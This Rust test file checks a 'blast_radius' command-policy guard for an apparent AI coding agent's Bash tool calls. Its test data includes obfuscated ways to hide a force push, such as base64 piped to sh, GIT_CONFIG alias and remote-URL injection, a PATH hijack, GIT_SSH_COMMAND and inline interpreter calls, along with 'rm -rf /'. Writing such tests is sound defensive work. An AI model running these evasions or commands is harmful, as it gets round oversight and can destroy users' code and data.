//! `blast_radius` and opaque command lines (issue 14, class 3 and the environment part of class 2):
//! what the shell parser cannot see through is asked about (or denied), never allowed, and the reason
//! says what could not be seen; ordinary coding work stays allowed.

mod support;

use support::{check, policies};

/// A suite where every `(command, verdict, reason)` is one step of one case.
fn suite(steps: &[(&str, &str, &str)]) -> String {
    let mut out = String::from("cases:\n");
    for (i, (command, verdict, reason)) in steps.iter().enumerate() {
        let command = serde_json::to_string(command).unwrap();
        out.push_str(&format!("  - name: \"{i}: {}\"\n    steps:\n", command.replace(['"', '\\'], "'")));
        out.push_str(&format!(
            "      - {{event: {{phase: tool_call, tool: Bash, args: {{command: {command}}}}}, expect: {verdict}"
        ));
        if !reason.is_empty() {
            out.push_str(&format!(", reason_contains: {}", serde_json::to_string(reason).unwrap()));
        }
        out.push_str("}\n");
    }
    out
}

#[test]
fn blast_radius_asks_about_what_it_cannot_see() {
    let ps = policies(&[("blast", "rules: [{name: b, use: blast_radius, with: {gate_pushes: false}}]")]);
    // With pushes not gated, each of these would be allowed if the parser took it at face value.
    let steps: &[(&str, &str, &str)] = &[
        ("$(which git) push -f origin main", "ask", "the program is `$(which git)`"),
        ("ln -s /usr/bin/git ./g; ./g push -f origin main", "ask", "copy or link"),
        ("cp /usr/bin/git /tmp/hub; /tmp/hub push -f origin main", "ask", "copy or link"),
        ("$(echo Z2l0IHB1c2ggLWYgb3JpZ2luIG1haW4= | base64 -d)", "ask", "whose value the line does not show"),
        ("echo Z2l0IHB1c2ggLWYgb3JpZ2luIG1haW4= | base64 -d | sh", "ask", "decoded by `base64`"),
        ("bash < <(echo 'git push -f origin main')", "ask", "standard input"),
        ("echo 'git push -f origin main' > /tmp/x; source /tmp/x", "ask", "script file"),
        ("echo 'git push -f origin main' > p.sh && sh p.sh", "ask", "`sh p.sh` runs a script file"),
        ("git ls-files | xargs git push origin", "ask", "`xargs` adds arguments"),
        ("parallel git push origin ::: -f", "ask", "`parallel`"),
        ("python3 -c 'import os; os.system(\"git push -f origin main\")'", "ask", "inline code"),
        ("perl -e 'system(\"git push -f origin main\")'", "ask", "inline code"),
        ("node -e 'require(\"child_process\").execSync(\"git push -f\")'", "ask", "inline code"),
        ("awk 'BEGIN{system(\"git push -f origin main\")}'", "ask", "`system`"),
        ("echo 'git push -f origin main' | at now", "ask", "`at`"),
        ("crontab -", "ask", "`crontab`"),
        ("systemd-run --user git push -f origin main", "ask", "`systemd-run`"),
        ("pwsh -c 'git push -f origin main'", "ask", "PowerShell"),
        ("PATH=/tmp/evil:$PATH git push origin develop", "ask", "`PATH`"),
        ("export GIT_CONFIG_PARAMETERS=\"'alias.p'='push -f'\"; git p origin develop", "ask", "GIT_CONFIG_PARAMETERS"),
        (
            "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://github.com/evil/x; git push origin main",
            "ask",
            "GIT_CONFIG_COUNT",
        ),
        ("GIT_DIR=/tmp/other/.git git push origin main", "ask", "`GIT_DIR`"),
        ("set -a; GIT_SSH_COMMAND='sh -c x'; git fetch", "ask", "GIT_SSH_COMMAND"),
    ];
    check(&suite(steps), &ps);
}

#[test]
fn what_the_parser_sees_through_is_judged_on_what_runs() {
    let ps = policies(&[("blast", "rules: [{name: b, use: blast_radius}]")]);
    let steps: &[(&str, &str, &str)] = &[
        // Resolved by the parser: the force push itself is denied, not merely asked about.
        ("printf -v c 'git push -f origin main'; $c", "deny", "force push"),
        ("IFS=,; c='git,push,-f,origin,main'; $c", "deny", "force push"),
        ("set -- -f; git push \"$@\" origin main", "deny", "force push"),
        ("strace -f git push -f origin main", "deny", "force push"),
        ("echo 'git push -f origin main' | bash", "deny", "force push"),
        ("c='git push -f origin main'; $c", "deny", "force push"),
        // An irreversible command on a line that is also opaque is still denied.
        ("$(which git) status; rm -rf /", "deny", "irreversible"),
        // Ordinary work stays allowed.
        ("cargo test", "allow", ""),
        ("npm run build && npm test", "allow", ""),
        ("pytest -q", "allow", ""),
        ("python3 script.py", "allow", ""),
        ("python3 -c 'import json,sys; print(json.load(sys.stdin))' < package.json", "allow", ""),
        ("git status", "allow", ""),
        ("git log --oneline -5", "allow", ""),
        ("git config --get user.name", "allow", ""),
        ("git diff | head", "allow", ""),
        ("ls | xargs -n1 echo", "allow", ""),
        ("./gradlew clean build", "allow", ""),
        ("export PATH=\"$HOME/.cargo/bin:$PATH\" && cargo build", "allow", ""),
        ("source .venv/bin/activate && pytest -q", "allow", ""),
        ("perl -pi -e 's/foo/bar/g' src/main.rs", "allow", ""),
        ("sed -i 's/foo/bar/' README.md", "allow", ""),
    ];
    check(&suite(steps), &ps);
}

#[test]
fn opaque_action_deny_denies_and_risky_and_opaque_keep_their_own_answers() {
    let deny = policies(&[("blast", "rules: [{name: b, use: blast_radius, with: {opaque_action: deny}}]")]);
    let steps: &[(&str, &str, &str)] = &[
        ("$(which git) push origin main", "deny", "cannot see what this runs"),
        ("echo 'git status' > p.sh; sh p.sh", "deny", "script file"),
        // A risky command keeps risky_action (ask); harmless work is allowed.
        ("git push origin feature/x", "ask", "risky command"),
        ("cargo test", "allow", ""),
    ];
    check(&suite(steps), &deny);
    let risky_deny = policies(&[("blast", "rules: [{name: b, use: blast_radius, with: {risky_action: deny}}]")]);
    let steps: &[(&str, &str, &str)] = &[
        // Opaque keeps asking when only risky_action is deny; a line both risky and opaque is denied.
        ("$(which git) status", "ask", "cannot see what this runs"),
        ("$(which git) status; git push origin x", "deny", "risky command"),
        // A line that cannot be parsed gets the stricter of the two.
        ("echo 'unterminated", "deny", "unterminated"),
    ];
    check(&suite(steps), &risky_deny);
    let defaults = policies(&[("blast", "rules: [{name: b, use: blast_radius}]")]);
    check(&suite(&[("echo 'unterminated", "ask", "unterminated")]), &defaults);
}
